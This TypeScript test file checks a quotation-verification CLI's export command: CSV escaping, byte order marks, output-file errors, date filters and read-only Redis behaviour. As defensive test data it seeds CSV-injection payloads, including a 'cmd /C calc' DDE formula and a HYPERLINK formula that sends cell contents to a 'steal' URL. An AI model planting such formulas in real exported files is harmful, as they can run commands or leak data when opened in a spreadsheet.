import { mkdir, mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { ArticleStore, type Claim, createLogger, createRedis, Keys, type Redis, type StoredArticle } from '@quotecheck/shared';
import { type ClaimWrites, CSV_COLUMNS, RedisClaimStore, verifyArticle } from '@quotecheck/verify';
import { parse as parseCsv } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runCli, testPrefix } from './support/cli.js';
import { purgePrefix } from './support/redis-keys.js';

const REDIS_URL = process.env.REDIS_URL ?? 'redis://127.0.0.1:6379';
const prefix = testPrefix('cli-export');
const keys = new Keys(prefix);
const env = { QUOTECHECK_PREFIX: prefix, REDIS_URL };
const silent = createLogger({ level: 'silent' });
let redis: Redis;
let dir: string;
// Each CLI child compiles the TypeScript entry point with tsx: 2-20 s on the shared 2-core machine.
const CLI_TIMEOUT = 300_000;

/**
 * Quotations a spreadsheet would run as formulas (OWASP CSV injection), each stored through the
 * verifier as a real article's direct quote.
 */
const HOSTILE_QUOTES = [
  '@SUM(1+1) we will win',
  "+cmd|' /C calc'!A0",
  '=HYPERLINK("http://127.0.0.1:9/steal?x="&A1,"click here for the full results")',
  '＝1+1 in full-width form is a formula to some spreadsheets',
];

/**
 * First characters the verifier never keeps at the edge of a quote (it trims spaces and dashes),
 * stored as claims directly through the store.
 */
const HOSTILE_RAW = [
  '-2+3 is what the budget office has been telling everybody',
  '\tcmd /c tab-led quotation',
  '\r=1+1 carriage-return-led quotation',
];

const PLAIN = 'The harbour will reopen to the fishing fleet before the end of the month';

function quoteArticle(id: string, outlet: string, quote: string, speaker: string): StoredArticle {
  const text = `Officials met on Monday to discuss the harbour.\n“${quote}” ${speaker} said on Monday.`;
  const start = text.indexOf(quote);
  return {
    url: `https://${outlet}/${id}`,
    title: id,
    byline: null,
    published: '2026-11-20T10:00:00Z',
    language: 'en',
    paragraphs: text.split('\n'),
    text,
    id,
    canonicalUrl: `https://${outlet}/${id}`,
    feedId: null,
    outlet,
    fetchedAt: '2026-11-20T10:00:00Z',
    attributions: [
      {
        type: 'direct',
        content: { start, end: start + quote.length, text: quote },
        cue: null,
        source: null,
        speaker: { name: speaker, kind: 'person' },
      },
    ],
  };
}

/** Claims written through the store's own transaction, as the verifier writes them. */
async function putClaims(store: RedisClaimStore, claims: Claim[]): Promise<void> {
  const writes: ClaimWrites = {
    claims,
    exact: [],
    shortQuotes: [],
    postings: [],
    speakers: [],
    articleClaims: [],
    disputes: [],
    statuses: [],
  };
  await store.transact(async () => ({ writes, result: null }));
}

/** Every key under the test prefix with its type and value, for "nothing was written" checks. */
async function snapshot(): Promise<Record<string, string>> {
  const out: Record<string, string> = {};
  let cursor = '0';
  do {
    const [next, found] = await redis.scan(cursor, 'MATCH', `${prefix}:*`, 'COUNT', 1000);
    cursor = next;
    for (const k of found) out[k] = (await redis.dumpBuffer(k))?.toString('base64') ?? '';
  } while (cursor !== '0');
  return out;
}

/**
 * Runs `args` while MONITOR records every command naming the test prefix; returns the result
 * and the commands among them that Redis flags as writes (COMMAND INFO).
 */
async function writesDuring(args: string[]): Promise<{ code: number | null; stderr: string; writes: string[] }> {
  const monitor = await redis.monitor();
  const seen: string[][] = [];
  monitor.on('monitor', (_time: string, cmd: string[]) => {
    if (cmd.some((a) => a.includes(prefix))) seen.push(cmd);
  });
  // MONITOR starts after its reply; a command sent now is seen, so wait for ours.
  await redis.exists(`${prefix}:monitor-probe`);
  await waitFor(() => seen.some((c) => c[1] === `${prefix}:monitor-probe`));
  const r = await runCli(args, env);
  await redis.exists(`${prefix}:monitor-probe-end`);
  await waitFor(() => seen.some((c) => c[1] === `${prefix}:monitor-probe-end`));
  monitor.disconnect();
  const writes: string[] = [];
  for (const cmd of seen) {
    const name = (cmd[0] ?? '').toLowerCase();
    const info = (await redis.command('INFO', name)) as [string, number, string[]][];
    if (info[0]?.[2]?.includes('write')) writes.push(cmd.slice(0, 2).join(' '));
  }
  return { code: r.code, stderr: r.stderr, writes };
}

async function waitFor(check: () => boolean, timeoutMs = 5000): Promise<void> {
  const deadline = Date.now() + timeoutMs;
  while (!check()) {
    if (Date.now() > deadline) throw new Error('MONITOR did not report the probe command');
    await new Promise((r) => setTimeout(r, 20));
  }
}

beforeAll(async () => {
  redis = createRedis(REDIS_URL);
  dir = await mkdtemp(join(tmpdir(), 'qc-cli-export-'));
  const articles = new ArticleStore(redis, keys);
  const store = new RedisClaimStore(redis, keys);
  try {
    const stored = [
      ...HOSTILE_QUOTES.map((q, i) => quoteArticle(`hostile${i}`, 'first.example', q, 'Maria Lopez')),
      quoteArticle('plain', 'first.example', PLAIN, 'Ida Moss'),
    ];
    for (const a of stored) {
      await articles.put(a);
      await verifyArticle({ data: { articleId: a.id }, log: silent }, { articles, store, log: silent });
    }
    // Tab- and CR-led cells, and enough claims (400, about 1 KB each) that the old per-row
    // once('drain') / once('error') listeners went past Node's limit of 10 on a file stream.
    const page = await store.page(null, 10);
    const template = page.claims.find((c) => c.canonical === PLAIN)!;
    const base = Date.parse(template.updatedAt);
    const extra: Claim[] = HOSTILE_RAW.map((q, i) => ({ ...template, id: `raw${i}`, canonical: q }));
    for (let i = 0; i < 400; i++)
      extra.push({
        ...template,
        id: `bulk${i}`,
        canonical: `${PLAIN}, said for the ${i}th time ${'with some more words to make a row long '.repeat(20)}`,
        updatedAt: new Date(base + i).toISOString(),
      });
    await putClaims(store, extra);
  } finally {
    await store.close();
  }
});

afterAll(async () => {
  await purgePrefix(redis, prefix);
  await redis.quit();
  await rm(dir, { recursive: true, force: true });
});

/** The records of a CSV export, header first, as a spreadsheet-agnostic parser reads them. */
function records(csv: string): string[][] {
  return parseCsv(csv, { bom: true, relax_column_count: false }) as string[][];
}

describe('quotecheck export --format csv', { timeout: CLI_TIMEOUT }, () => {
  it('writes every quote that starts like a formula as quoted text behind a single quote', async () => {
    const out = join(dir, 'claims.csv');
    const r = await runCli(['export', '--format', 'csv', '--out', out], env);
    expect(r.code).toBe(0);
    // No MaxListenersExceededWarning, nor anything else.
    expect(r.stderr).toBe('');
    const text = await readFile(out, 'utf8');
    const [header, ...rows] = records(text);
    expect(header).toEqual([...CSV_COLUMNS]);
    expect(rows).toHaveLength(HOSTILE_QUOTES.length + 1 + HOSTILE_RAW.length + 400);
    const canonical = CSV_COLUMNS.indexOf('canonical');
    const cells = new Set(rows.map((row) => row[canonical]));
    for (const q of [...HOSTILE_QUOTES, ...HOSTILE_RAW]) {
      expect(cells.has(`'${q}`), q).toBe(true);
      expect(cells.has(q), q).toBe(false);
      // Quoted as well as prefixed, so no spreadsheet splits or evaluates it.
      expect(text).toContain(`"'${q.replace(/"/g, '""')}"`);
    }
    expect(cells.has(PLAIN)).toBe(true);
    // No cell of the whole file starts like a formula.
    for (const row of rows) for (const cell of row) expect(cell, cell).not.toMatch(/^[=+\-@\t\r＝＋－＠]/);
    // The JSON-encoded cells are still JSON.
    const occurrences = CSV_COLUMNS.indexOf('occurrences');
    expect(JSON.parse(rows[0]![occurrences]!)[0].url).toMatch(/^https:\/\/first\.example\//);
  });

  it('starts with a UTF-8 byte order mark with --bom, and only for CSV', async () => {
    const r = await runCli(['export', '--format', 'csv', '--bom', '--status', 'single_source', '--speaker', 'moss'], env);
    expect(r.code).toBe(0);
    expect(r.stdout.charCodeAt(0)).toBe(0xfeff);
    expect(records(r.stdout)[0]).toEqual([...CSV_COLUMNS]);
    const plain = await runCli(['export', '--format', 'csv', '--speaker', 'moss'], env);
    expect(plain.stdout.charCodeAt(0)).toBe('i'.charCodeAt(0));
    const jsonl = await runCli(['export', '--bom'], env);
    expect(jsonl.code).toBe(2);
    expect(jsonl.stderr).toMatch(/--bom is for --format csv/);
  });
});

describe('quotecheck export --out', { timeout: CLI_TIMEOUT }, () => {
  it('refuses a missing directory in one line, exit 1, and creates nothing', async () => {
    const missing = join(dir, 'missing', 'dir', 'x.csv');
    const r = await runCli(['export', '--format', 'csv', '--out', missing], env);
    expect(r.code).toBe(1);
    expect(r.stderr.trim().split('\n')).toEqual([
      `quotecheck: cannot write ${missing}: no such directory (create ${join(dir, 'missing', 'dir')} first)`,
    ]);
    expect(await readdir(dir)).not.toContain('missing');
  });

  it('refuses a directory as the output file', async () => {
    const target = join(dir, 'a-directory');
    await mkdir(target, { recursive: true });
    const r = await runCli(['export', '--out', target], env);
    expect(r.code).toBe(1);
    expect(r.stderr.trim()).toBe(`quotecheck: cannot write ${target}: it is a directory, name a file`);
  });

  it('leaves an existing file as it was, and no temporary file, when the export fails', async () => {
    const sub = await mkdtemp(join(dir, 'keep-'));
    const target = join(sub, 'claims.jsonl');
    await writeFile(target, 'yesterday\n');
    const r = await runCli(['export', '--out', target], { ...env, REDIS_URL: 'redis://127.0.0.1:1' });
    expect(r.code).toBe(1);
    expect(r.stderr).toMatch(/^quotecheck: Redis is not answering/);
    expect(await readFile(target, 'utf8')).toBe('yesterday\n');
    expect(await readdir(sub)).toEqual(['claims.jsonl']);
  });

  it('replaces the file whole on success, with one JSON line per claim and a clean stderr', async () => {
    const sub = await mkdtemp(join(dir, 'ok-'));
    const target = join(sub, 'claims.jsonl');
    await writeFile(target, 'yesterday\n');
    const r = await runCli(['export', '--out', target], env);
    expect(r.code).toBe(0);
    expect(r.stderr).toBe('');
    const lines = (await readFile(target, 'utf8')).trim().split('\n');
    expect(lines).toHaveLength(await redis.zcard(`${keys.claims}:updated`));
    expect(JSON.parse(lines[0]!)).toHaveProperty('canonical');
    expect(await readdir(sub)).toEqual(['claims.jsonl']);
  });
});

describe('quotecheck export --since', { timeout: CLI_TIMEOUT }, () => {
  it('takes a duration back from now or an ISO date, and names the accepted forms otherwise', async () => {
    const total = await redis.zcard(`${keys.claims}:updated`);
    const count = async (since: string) => {
      const r = await runCli(['export', '--since', since], env);
      expect(r.code, r.stderr).toBe(0);
      return r.stdout.split('\n').filter(Boolean).length;
    };
    expect(await count('2000-01-01')).toBe(total);
    expect(await count('3d')).toBe(total);
    expect(await count('2999-01-01T00:00Z')).toBe(0);
    for (const bad of ['5x']) {
      const r = await runCli(['export', '--since', bad], env);
      expect(r.code).toBe(2);
      expect(r.stderr.trim()).toBe(
        `quotecheck: --since: '${bad}' is neither a duration back from now (90s, 5m, 1h, 2d) nor an ISO date or time (2026-11-26, 2026-11-26T08:00Z)`,
      );
    }
  });
});

describe('read-only commands', { timeout: CLI_TIMEOUT }, () => {
  it('export and status send no write command to Redis and change no key', async () => {
    const before = await snapshot();
    const exported = await writesDuring(['export', '--format', 'csv']);
    expect(exported.code, exported.stderr).toBe(0);
    expect(exported.writes).toEqual([]);
    const status = await writesDuring(['status', '--json']);
    expect(status.code, status.stderr).toBe(0);
    expect(status.writes).toEqual([]);
    expect(await snapshot()).toEqual(before);
  });
});
